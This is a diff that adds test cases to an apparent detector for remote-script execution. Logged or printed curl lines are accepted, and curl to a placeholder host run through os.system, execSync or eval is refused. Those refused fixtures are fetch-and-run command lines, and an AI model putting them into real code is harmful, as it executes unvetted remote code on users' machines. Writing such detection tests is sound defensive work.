@@ -80,3 +80,20 @@ describe('pass 13, item 2: helm, asdf and corepack given a URL only where they f
     ['src/deploy.py', "subprocess.run(['helm','install','x','https://x.example/c.tgz'])"],
   ])('refuses, in %s: %s', refusedAs('remote-script'));
 });
+
+describe('pass 13, item 3: a download command line printed, not run', () => {
+  it.each([
+    ['src/client.py', "logger.info('curl -s https://api.example.com/v1/items %s', status)"],
+    ['src/client.js', 'console.log(`curl -s https://localhost:3000/health ${flags}`);'],
+    ['src/cli.go', 'fmt.Printf("curl -s https://api.example.com/v1 %s\\n", token)'],
+    ['docs/api.md', 'Call `curl -s https://api.example.com/v1/items ${TOKEN_FLAGS}` to list them.'],
+  ])('accepts, in %s: %s', accepted);
+
+  it.each([
+    ['src/setup_env.py', "os.system('curl -s https://x.example/i ' + pipe)"],
+    ['src/setup_env.py', "cmd = 'curl -s https://x.example/i ' + pipe\nos.system(cmd)"],
+    ['src/setup.js', 'const cmd = `curl -s https://x.example/i ${pipe}`;\nexecSync(cmd);'],
+    ['docs/setup.md', 'eval "curl -s https://x.example/i ${pipe}"'],
+    ['src/setup.js', 'const print = execSync;\nprint(`curl -s https://x.example/i ${pipe}`);'],
+  ])('refuses, in %s: %s', refusedAs('remote-script'));
+});
